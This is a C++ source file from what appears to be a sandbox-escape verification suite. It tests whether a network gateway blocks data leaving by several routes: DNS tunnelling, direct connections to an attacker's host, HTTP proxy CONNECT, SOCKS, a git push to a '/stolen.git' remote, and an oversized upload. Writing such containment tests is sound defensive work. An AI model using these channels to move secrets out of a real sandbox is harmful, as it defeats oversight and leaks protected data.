#include "verify/acts/through_gateway.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstring>

#include "verify/acts/internet.h"

namespace bailey::verify {
namespace {

constexpr std::uint16_t dns_port = 53;
constexpr std::uint16_t proxy_port = 3128;
constexpr std::uint16_t socks_port = 1080;
constexpr std::size_t name_bytes_max = 253;
constexpr std::size_t answer_bytes_max = 1024;
constexpr std::size_t piece_bytes = 4096;

// Closes on the way out: an act has many ways out.
struct Socket {
  int fd = -1;
  Socket() = default;
  Socket(const Socket&) = delete;
  Socket& operator=(const Socket&) = delete;
  ~Socket() {
    if (fd >= 0) ::close(fd);
  }
};

int connect_here(std::uint16_t port, int type, Socket& socket) {
  Address address;
  if (!parse_address("127.0.0.1", port, address)) return EINVAL;
  return connect_to(address, type, socket.fd);
}

// 0 and the first A record of the gateway's answer, or an errno.
int look_up(const char* name, char* address, std::size_t size_max) {
  constexpr std::size_t header_bytes = 12;
  constexpr std::size_t record_bytes = 16;  // a compressed name, type, class, TTL, length, an IPv4 address
  unsigned char question[300];
  const std::size_t size = dns_question(name, question, sizeof question);
  if (size == 0) return EINVAL;
  Socket socket;
  if (const int error = connect_here(dns_port, SOCK_DGRAM, socket); error != 0) return error;
  if (::send(socket.fd, question, size, 0) < 0) return errno;
  if (const int error = wait_for(socket.fd, POLLIN); error != 0) return error;
  unsigned char answer[answer_bytes_max];
  const ssize_t count = ::recv(socket.fd, answer, sizeof answer, 0);
  if (count < 0) return errno;
  const auto got = static_cast<std::size_t>(count);
  if (got < header_bytes || std::memcmp(answer, question, 2) != 0) return EPROTO;
  const bool is_refused = (answer[3] & 0x0f) != 0;
  if (is_refused || (answer[6] == 0 && answer[7] == 0)) return ENOENT;
  if (got < size + record_bytes) return EPROTO;
  const unsigned char* bytes = answer + size + record_bytes - 4;
  std::snprintf(address, size_max, "%u.%u.%u.%u", bytes[0], bytes[1], bytes[2], bytes[3]);
  return 0;
}

struct Target {
  const char* name = nullptr;
  long long port = 0;
  const char* token = nullptr;
};

bool read_target(const Arguments& arguments, Target& target) {
  target = {arguments.text(0), arguments.number(1, 0), arguments.text(2)};
  return target.name != nullptr && target.token != nullptr && std::strlen(target.name) <= name_bytes_max &&
         target.port > 0 && target.port <= UINT16_MAX;
}

ActResult no_target() { return unavailable("needs a name, a port and a token"); }

ActResult ask_for_name(const Arguments& arguments) {
  if (arguments.text(0) == nullptr) return unavailable("needs a name");
  char address[INET_ADDRSTRLEN];
  if (const int error = look_up(arguments.text(0), address, sizeof address); error != 0)
    return refused(error, "no answer with an address");
  return succeeded("the name was answered");
}

ActResult connect_by_name(const Target& target, Socket& socket) {
  char text[INET_ADDRSTRLEN];
  if (const int error = look_up(target.name, text, sizeof text); error != 0) return refused(error, "look up the name");
  Address address;
  if (!parse_address(text, target.port, address)) return refused(EPROTO, "no address was answered");
  if (const int error = connect_to(address, SOCK_STREAM, socket.fd); error != 0) return refused(error, "connect(2)");
  return succeeded("connected");
}

ActResult through_name(const Arguments& arguments) {
  Target target;
  if (!read_target(arguments, target)) return no_target();
  Socket socket;
  const ActResult connected = connect_by_name(target, socket);
  if (connected.outcome != Outcome::succeeded) return connected;
  return hear(socket.fd, target.token, std::strlen(target.token));
}

// git-daemon(1)'s protocol: a program that knows nothing of proxies, on a port of its own.
ActResult through_git(const Arguments& arguments) {
  Target target;
  if (!read_target(arguments, target)) return no_target();
  Socket socket;
  const ActResult connected = connect_by_name(target, socket);
  if (connected.outcome != Outcome::succeeded) return connected;
  char request[64 + name_bytes_max];
  const int size = std::snprintf(request + 4, sizeof request - 4, "git-receive-pack /stolen.git%chost=%s%c", '\0',
                                 target.name, '\0');
  char length[5];
  std::snprintf(length, sizeof length, "%04x", static_cast<unsigned>(size) + 4);
  std::memcpy(request, length, 4);
  if (::send(socket.fd, request, static_cast<std::size_t>(size) + 4, MSG_NOSIGNAL) < 0)
    return refused(errno, "send(2)");
  return hear(socket.fd, target.token, std::strlen(target.token));
}

// What follows the proxy's answer stays in the socket: it is taken out byte by byte.
ActResult connect_by_proxy(const Target& target, Socket& socket) {
  if (const int error = connect_here(proxy_port, SOCK_STREAM, socket); error != 0)
    return refused(error, "connect(2) to the proxy");
  char request[128 + 2 * name_bytes_max];
  const int size = std::snprintf(request, sizeof request, "CONNECT %s:%lld HTTP/1.1\r\nHost: %s:%lld\r\n\r\n",
                                 target.name, target.port, target.name, target.port);
  if (::send(socket.fd, request, static_cast<std::size_t>(size), MSG_NOSIGNAL) < 0) return refused(errno, "send(2)");
  char answer[answer_bytes_max] = {};
  for (std::size_t got = 0; got + 1 < sizeof answer; ++got) {
    if (const int error = wait_for(socket.fd, POLLIN); error != 0) return refused(error, "the proxy is silent");
    if (::recv(socket.fd, answer + got, 1, 0) != 1) return refused(ECONNRESET, "the proxy closed the connection");
    if (got >= 3 && std::memcmp(answer + got - 3, "\r\n\r\n", 4) == 0) break;
  }
  if (std::strncmp(answer, "HTTP/1.1 200", 12) == 0) return succeeded("connected");
  answer[std::strcspn(answer, "\r")] = '\0';
  return refused(std::strncmp(answer, "HTTP/1.1 403", 12) == 0 ? EACCES : EPROTO, "the proxy: %s", answer);
}

ActResult through_proxy(const Arguments& arguments) {
  Target target;
  if (!read_target(arguments, target)) return no_target();
  Socket socket;
  const ActResult connected = connect_by_proxy(target, socket);
  if (connected.outcome != Outcome::succeeded) return connected;
  return hear(socket.fd, target.token, std::strlen(target.token));
}

// RFC 1928: no authentication, then CONNECT to a name.
ActResult through_socks(const Arguments& arguments) {
  Target target;
  if (!read_target(arguments, target)) return no_target();
  Socket socket;
  if (const int error = connect_here(socks_port, SOCK_STREAM, socket); error != 0)
    return refused(error, "connect(2) to the proxy");
  constexpr unsigned char greeting[] = {5, 1, 0};
  constexpr unsigned char agreed[] = {5, 0};
  if (::send(socket.fd, greeting, sizeof greeting, MSG_NOSIGNAL) < 0) return refused(errno, "send(2)");
  const ActResult greeted = hear(socket.fd, agreed, sizeof agreed);
  if (greeted.outcome != Outcome::succeeded) return greeted;
  const std::size_t size = std::strlen(target.name);
  unsigned char request[7 + name_bytes_max] = {5, 1, 0, 3, static_cast<unsigned char>(size)};
  std::memcpy(request + 5, target.name, size);
  request[5 + size] = static_cast<unsigned char>(target.port >> 8);
  request[6 + size] = static_cast<unsigned char>(target.port);
  if (::send(socket.fd, request, 7 + size, MSG_NOSIGNAL) < 0) return refused(errno, "send(2)");
  constexpr std::size_t reply_bytes = 10;  // with an IPv4 address
  unsigned char reply[reply_bytes];
  if (const int error = wait_for(socket.fd, POLLIN); error != 0) return refused(error, "the proxy is silent");
  if (::recv(socket.fd, reply, sizeof reply, 0) < 2) return refused(ECONNRESET, "the proxy closed the connection");
  if (reply[1] != 0) return refused(EACCES, "the proxy answered with code %d", reply[1]);
  return hear(socket.fd, target.token, std::strlen(target.token));
}

// More than the session may send, through a connection that is allowed.
ActResult upload(const Arguments& arguments) {
  Target target;
  const long long bytes = arguments.number(3, 0);
  if (!read_target(arguments, target) || bytes <= 0) return no_target();
  Socket socket;
  const ActResult connected = connect_by_proxy(target, socket);
  if (connected.outcome != Outcome::succeeded) return connected;
  const ActResult greeted = hear(socket.fd, target.token, std::strlen(target.token));
  if (greeted.outcome != Outcome::succeeded) return greeted;
  const char piece[piece_bytes] = {};
  for (long long left = bytes; left > 0;) {
    if (const int error = wait_for(socket.fd, POLLOUT); error != 0) return refused(error, "nobody takes it");
    const auto size = static_cast<std::size_t>(std::min<long long>(left, piece_bytes));
    const ssize_t sent = ::send(socket.fd, piece, size, MSG_NOSIGNAL);
    if (sent < 0) return refused(errno, "send(2)");
    left -= sent;
  }
  // The server says nothing more: whatever comes now is the end that somebody made of it.
  if (wait_for(socket.fd, POLLIN) != 0) return succeeded("everything was taken");
  return refused(ECONNRESET, "the connection was cut");
}

constexpr const char* by_name = "Network: names that are not allowed";
constexpr Act acts[] = {
    {"name-lookup", 3, "Network: DNS tunnelling", Layer::network_namespace, Control::outside_listener, "NAME",
     "sends a secret as a name that is asked for", ask_for_name},
    {"http-by-name", 3, by_name, Layer::network_namespace, Control::outside_listener, "NAME PORT TOKEN",
     "sends a secret to a host of the attacker's, without proxy variables", through_name},
    {"http-by-proxy", 3, by_name, Layer::network_namespace, Control::outside_listener, "NAME PORT TOKEN",
     "sends a secret to a host of the attacker's, through the proxy", through_proxy},
    {"http-by-socks", 3, by_name, Layer::network_namespace, Control::outside_listener, "NAME PORT TOKEN",
     "sends a secret to a host of the attacker's, through SOCKS", through_socks},
    {"git-remote", 3, by_name, Layer::network_namespace, Control::outside_listener, "NAME PORT TOKEN",
     "pushes a secret to a remote of the attacker's", through_git},
    {"upload", 10, "Network: more than the session may send", Layer::network_namespace, Control::outside_listener,
     "NAME PORT TOKEN BYTES", "sends everything to a host that is allowed", upload},
};

}  // namespace

std::span<const Act> gateway_acts() { return acts; }

const Act* find_gateway_act(const char* name) {
  const auto* found = std::find_if(std::begin(acts), std::end(acts),
                                   [name](const Act& act) { return std::strcmp(act.name, name) == 0; });
  return found == std::end(acts) ? nullptr : found;
}

}  // namespace bailey::verify
